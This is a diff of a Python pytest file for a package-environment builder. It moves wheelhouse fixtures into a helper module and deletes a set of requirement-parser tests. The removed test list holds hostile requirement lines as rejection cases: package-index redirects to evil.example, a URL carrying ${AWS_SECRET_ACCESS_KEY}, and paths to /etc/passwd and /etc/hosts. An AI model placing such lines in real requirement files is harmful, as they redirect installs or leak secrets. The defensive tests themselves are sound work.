@@ -8,129 +8,29 @@ the builds run is a wrapper script that logs its argv and environment, then runs
 
 from __future__ import annotations
 
-import base64
 import hashlib
 import http.server
 import json
 import os
-import re
 import signal
 import subprocess
 import sys
-import sysconfig
 import threading
 import time
-import zipfile
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from live_code.envs import builder as envs
-from live_code.errors import ConfigError, EnvironmentBuildError, RequirementError
+from live_code.errors import EnvironmentBuildError, RequirementError
 from live_code.source import store as store_mod
+from tests.helpers.envs import REAL_UV, job_python, offline, write_wheel
 
 SHA = "0123456789abcdef0123456789abcdef01234567"
-REAL_UV = os.path.join(sysconfig.get_path("scripts"), "uv")
 
 
-# -- fixtures: wheels, wheelhouses, the fake base --------------------------------------------------
-
-
-def write_wheel(
-    folder: Path, name: str, version: str, requires: tuple[str, ...] = (), files: Mapping[str, str] | None = None
-) -> Path:
-    """A minimal valid wheel: the package's files plus METADATA, WHEEL and RECORD."""
-    dist = name.replace("-", "_")
-    contents = dict(files if files is not None else {f"{dist}/__init__.py": f"__version__ = {version!r}\n"})
-    info = f"{dist}-{version}.dist-info"
-    contents[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(
-        f"Requires-Dist: {r}\n" for r in requires
-    )
-    contents[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
-    record = []
-    for path, text in contents.items():
-        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
-        record.append(f"{path},sha256={digest},{len(text.encode())}")
-    contents[f"{info}/RECORD"] = "\n".join([*record, f"{info}/RECORD,,"]) + "\n"
-    folder.mkdir(parents=True, exist_ok=True)
-    wheel = folder / f"{dist}-{version}-py3-none-any.whl"
-    with zipfile.ZipFile(wheel, "w") as zf:
-        for path, text in contents.items():
-            zf.writestr(path, text)
-    return wheel
-
-
-@pytest.fixture(scope="session")
-def wheelhouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    wh = tmp_path_factory.mktemp("wheelhouse")
-    write_wheel(wh, "torch", "2.13.0")
-    write_wheel(wh, "torch", "2.14.0")
-    write_wheel(wh, "nvidia-cublas-cu12", "12.4.5.8")
-    write_wheel(wh, "nvidia-cublas-cu12", "12.1.0")
-    write_wheel(wh, "needs-torch", "1.0", ("torch>=2", "nvidia-cublas-cu12"))
-    write_wheel(wh, "needs-new-torch", "1.0", ("torch==2.14.0",))
-    write_wheel(wh, "torchaudio", "2.13.0", ("torch==2.13.0",))
-    write_wheel(wh, "tinydep", "1.0")
-    write_wheel(wh, "tinyapp", "1.0", ("tinydep",))
-    body = "".join(f"def f{j}(x):\n    return x + {j}\n" for j in range(30))
-    # slow to install (about 2.5 s here), so a deadline or a kill lands mid-install
-    slow = {f"slowpkg/m{i}.py": body for i in range(40000)}
-    write_wheel(wh, "slowpkg", "1.0", files={**slow, "slowpkg/__init__.py": ""})
-    write_wheel(
-        wh, "manymods", "1.0", files={**{f"manymods/m{i}.py": body for i in range(3000)}, "manymods/__init__.py": ""}
-    )
-    return wh
-
-
-@pytest.fixture(scope="session")
-def base_python(tmp_path_factory: pytest.TempPathFactory, wheelhouse: Path) -> str:
-    """A venv (like the harness's own) holding the fake frameworks: the job's base."""
-    base = tmp_path_factory.mktemp("base") / "venv"
-    run = {
-        "env": {"PATH": os.environ["PATH"], "HOME": str(base.parent), "UV_NO_CONFIG": "1"},
-        "check": True,
-        "capture_output": True,
-    }
-    subprocess.run([REAL_UV, "venv", "--python", sys.executable, str(base)], **run)  # type: ignore[call-overload]
-    subprocess.run(
-        [
-            REAL_UV,
-            "pip",
-            "install",
-            "--python",
-            str(base / "bin" / "python"),
-            "--no-index",  # type: ignore[call-overload]
-            "--find-links",
-            str(wheelhouse),
-            "torch==2.13.0",
-            "nvidia-cublas-cu12==12.4.5.8",
-        ],
-        **run,
-    )
-    return str(base / "bin" / "python")
-
-
-@pytest.fixture(scope="session")
-def installer_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return tmp_path_factory.mktemp("installer-cache")
-
-
-@pytest.fixture
-def uv_log(tmp_path: Path) -> Path:
-    return tmp_path / "uv-calls"
-
-
-@pytest.fixture
-def uv_wrapper(tmp_path: Path, uv_log: Path) -> envs.Installer:
-    """The real uv behind a script that logs each call's argv and environment (one file per call)."""
-    uv_log.mkdir()
-    script = tmp_path / "uv"
-    script.write_text(
-        f'#!/bin/sh\nf="{uv_log}/$$"\nprintf "%s\\n" "$*" > "$f.argv"\nenv > "$f.env"\nexec "{REAL_UV}" "$@"\n'
-    )
-    script.chmod(0o755)
-    return envs.find_installer("uv", uv=str(script))
+# -- helpers (the wheelhouse and base fixtures are in tests/helpers/envs.py) -----------------------
 
 
 def calls(uv_log: Path, sub: str) -> list[str]:
@@ -145,15 +45,11 @@ def repo(tmp_path: Path) -> Path:
     return path
 
 
-def offline(wheelhouse: Path) -> envs.IndexSettings:
-    return envs.IndexSettings(find_links=(str(wheelhouse),), offline=True)
-
-
 def prepare(
     repo: Path, base_python: str, wheelhouse: Path, installer: envs.Installer | None = None, **kw: object
 ) -> envs.EnvSpec:
     kw.setdefault("index", offline(wheelhouse))
-    return envs.prepare_env(repo, base_python=base_python, installer=installer, **kw)  # type: ignore[arg-type]
+    return envs.prepare_env(repo, base_python=base_python, installer=installer, **kw)  # type: ignore[arg-type]  # keyword arguments passed through as object
 
 
 def site_packages(env: Path) -> Path:
@@ -179,170 +75,7 @@ def base_frameworks(base_python: str) -> dict[str, str]:
     return out
 
 
-def job_python(env: Path, code: str) -> str:
-    return subprocess.run(
-        [str(env / "bin" / "python"), "-c", code],
-        check=True,
-        capture_output=True,
-        text=True,
-        env={"PATH": os.environ["PATH"]},
-    ).stdout.strip()
-
-
-# -- which file, and its lines ---------------------------------------------------------------------
-
-
-def test_find_requirements_prefers_manifest_then_requirements_txt_then_legacy(repo: Path) -> None:
-    assert envs.find_requirements(repo) is None
-    (repo / "extra-requirements.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo) == (repo / "extra-requirements.txt").resolve()
-    (repo / "requirements.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo) == (repo / "requirements.txt").resolve()
-    (repo / "deps").mkdir()
-    (repo / "deps" / "run.txt").write_text("tinydep\n")
-    assert envs.find_requirements(repo, "deps/run.txt") == (repo / "deps" / "run.txt").resolve()
-
-
-@pytest.mark.parametrize("entry", ["missing.txt", "../outside.txt", "/etc/hostname"])
-def test_find_requirements_refuses_manifest_entry_missing_or_outside(repo: Path, entry: str) -> None:
-    (repo.parent / "outside.txt").write_text("tinydep\n")
-    with pytest.raises(ConfigError, match=r"live-code\.yaml"):
-        envs.find_requirements(repo, entry)
-
-
-def test_find_requirements_refuses_symlink_out_of_repo(repo: Path) -> None:
-    (repo.parent / "elsewhere.txt").write_text("tinydep\n")
-    (repo / "requirements.txt").symlink_to(repo.parent / "elsewhere.txt")
-    with pytest.raises(RequirementError, match="outside the repository"):
-        envs.find_requirements(repo)
-
-
-REFUSED = [
-    ("--index-url https://evil.example/simple", "would change where packages come from"),
-    ("-i https://evil.example/simple", "would change where packages come from"),
-    ("--extra-index-url https://evil.example/simple", "would change where packages come from"),
-    ("--trusted-host evil.example", "would change where packages come from"),
-    ("--find-links https://evil.example/links", "would change where packages come from"),
-    ("-f ./wheels", "would change where packages come from"),
-    ("--no-index", "would change where packages come from"),
-    ("tinydep==${TINY_VERSION}", "environment variable"),
-    ("https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl", "environment variable"),
-    ("../outside/pkg-1.0-py3-none-any.whl", "outside the repository"),
-    ("/etc/passwd", "outside the repository"),
-    ("pkg @ file:///etc/hosts", "outside the repository"),
-    ("-r ../other.txt", "outside the repository"),
-    ("--requirement=/etc/other.txt", "outside the repository"),
-    ("-r https://evil.example/r.txt", "inside the repository"),
-    ("-e .", "editable"),
-    ("-c constraints.txt", "constraint files"),
-    ("--pre", "not allowed"),
-    ("tinydep==1.0 --install-option=--prefix=/tmp", "not allowed"),
-    ("tinydep==1.0 --hash=md5:0123", "sha256"),
-    ("git+https://example.com/o/r@main#egg=r", "full commit SHA"),
-    ("r @ git+https://example.com/o/r", "full commit SHA"),
-    ("r @ git+https://example.com/o/r@0123456", "full commit SHA"),
-    (f"r @ git+ssh://git@example.com/o/r@{SHA}", "git+ssh"),
-    (f"r @ hg+https://example.com/o/r@{SHA}", "hg+https"),
-    ("http://example.com/pkg-1.0-py3-none-any.whl", "http://"),
-    ("pkg @ https://user:tok3n@example.com/pkg.whl", "credentials"),
-    ("not a requirement !!", "not a valid requirement"),
-]
-
-
-@pytest.mark.parametrize(("line", "why"), REFUSED, ids=[r[0][:40] for r in REFUSED])
-def test_parse_refuses_line_naming_file_and_line_number(repo: Path, line: str, why: str) -> None:
-    (repo / "requirements.txt").write_text(f"# pinned deps\ntinydep==1.0\n\n{line}\ntinyapp==1.0\n")
-    with pytest.raises(RequirementError, match=re.escape(why)) as info:
-        envs.parse_requirements(repo / "requirements.txt", repo)
-    assert str(info.value).startswith("requirements.txt:4: ")
-    assert "tok3n" not in info.value.render()
-
-
-def test_parse_names_the_line_inside_an_included_file(repo: Path) -> None:
-    (repo / "reqs").mkdir()
-    (repo / "requirements.txt").write_text("tinydep==1.0\n-r reqs/extra.txt\n")
-    (repo / "reqs" / "extra.txt").write_text("tinyapp==1.0\n--extra-index-url https://evil.example/simple\n")
-    with pytest.raises(RequirementError, match=r"^reqs/extra.txt:2: "):
-        envs.parse_requirements(repo / "requirements.txt", repo)
-
-
-def test_parse_follows_includes_and_refuses_cycles(repo: Path) -> None:
-    (repo / "requirements.txt").write_text("tinydep==1.0\n-r more.txt\n")
-    (repo / "more.txt").write_text("tinyapp==1.0  # the app\n")
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.origin, r.spec) for r in reqs.lines] == [
-        ("requirements.txt:1", "tinydep==1.0"),
-        ("more.txt:1", "tinyapp==1.0"),
-    ]
-    assert [rel for rel, _ in reqs.sources] == ["requirements.txt", "more.txt"]
-    (repo / "more.txt").write_text("-r requirements.txt\n")
-    with pytest.raises(RequirementError, match=r"more\.txt:1: .*cycle"):
-        envs.parse_requirements(repo / "requirements.txt", repo)
-
-
-def test_parse_accepts_pinned_vcs_and_records_unpinned_lines(repo: Path) -> None:
-    (repo / "requirements.txt").write_text(
-        f"r @ git+https://example.com/o/r@{SHA}\n"
-        "tinyapp>=1.0\n"
-        "tinydep==1.0 ; python_version >= '3'\n"
-        "six\n"
-        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl#sha256=" + "a" * 64 + "\n"
-    )
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.kind, r.name, r.pinned) for r in reqs.lines] == [
-        ("vcs", "r", True),
-        ("name", "tinyapp", False),
-        ("name", "tinydep", True),
-        ("name", "six", False),
-        ("url", "pkg", True),
-    ]
-    assert reqs.unpinned == ("requirements.txt:2: tinyapp>=1.0", "requirements.txt:4: six")
-
-
-def test_strict_pins_refuses_an_unpinned_line_with_its_number(repo: Path) -> None:
-    (repo / "requirements.txt").write_text("tinydep==1.0\ntinyapp>=1.0\n")
-    assert envs.parse_requirements(repo / "requirements.txt", repo).unpinned
-    with pytest.raises(RequirementError, match=r"^requirements.txt:2: .*live_code_strict_pins"):
-        envs.parse_requirements(repo / "requirements.txt", repo, strict_pins=True)
-
-
-def test_parse_joins_continuations_but_never_continues_a_comment(repo: Path) -> None:
-    digest = "sha256:" + "b" * 64
-    (repo / "requirements.txt").write_text(
-        f"tinydep==1.0 \\\n    --hash={digest}\n"
-        "# a comment ending in a backslash \\\n"
-        "tinyapp==1.0\n"
-        "six==1.16.0 # note \\\n"
-        "--index-url https://evil.example/simple\n"
-    )
-    reqs = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert [(r.origin, r.spec, r.hashes) for r in reqs.lines] == [
-        ("requirements.txt:1", "tinydep==1.0", (digest,)),
-        ("requirements.txt:4", "tinyapp==1.0", ()),
-        ("requirements.txt:5", "six==1.16.0", ()),  # pip's rule: the comment swallows the next line
-    ]
-
-
-def test_local_path_inside_repo_is_accepted_and_its_bytes_are_in_the_digest(repo: Path, wheelhouse: Path) -> None:
-    (repo / "vendor").mkdir()
-    wheel = write_wheel(repo / "vendor", "tinydep", "1.0")
-    (repo / "requirements.txt").write_text(f"./vendor/{wheel.name}\n")
-    first = envs.parse_requirements(repo / "requirements.txt", repo)
-    assert first.lines[0].spec == str(wheel.resolve()) and first.lines[0].kind == "path"
-    wheel.write_bytes(wheel.read_bytes() + b"\0")
-    assert envs.parse_requirements(repo / "requirements.txt", repo).digest() != first.digest()
-
-
 # -- base and key ----------------------------------------------------------------------------------
-
-
-def test_base_fingerprint_reads_the_venv_base_and_its_protected_frameworks(base_python: str) -> None:
-    base = envs.base_fingerprint(base_python)
-    assert base.protected == {"torch": "2.13.0", "nvidia-cublas-cu12": "12.4.5.8"}
-    assert base.is_venv and not base.system_site
-    assert base.venv_site_dirs == (str(site_packages(Path(base_python).parent.parent)),)
-    assert base.python_version == ".".join(map(str, sys.version_info[:3]))
-    assert envs.base_fingerprint(base_python).fingerprint() == base.fingerprint()
 
 
 def test_env_key_is_stable_and_changes_with_each_input(
@@ -353,7 +86,7 @@ def test_env_key_is_stable_and_changes_with_each_input(
     assert prepare(repo, base_python, wheelhouse).key == spec.key
 
     def key(**kw: object) -> str:
-        return envs.env_key(*[kw.get(k, getattr(spec, k)) for k in ("base", "requirements", "index", "installer")])  # type: ignore[arg-type]
+        return envs.env_key(*[kw.get(k, getattr(spec, k)) for k in ("base", "requirements", "index", "installer")])  # type: ignore[arg-type]  # the spec's fields, some replaced by the test
 
     other_base = envs.BaseInfo(**{**spec.base.__dict__, "python_version": "3.99.0"})
     other_dists = envs.BaseInfo(**{**spec.base.__dict__, "dists": spec.base.dists[:-1]})
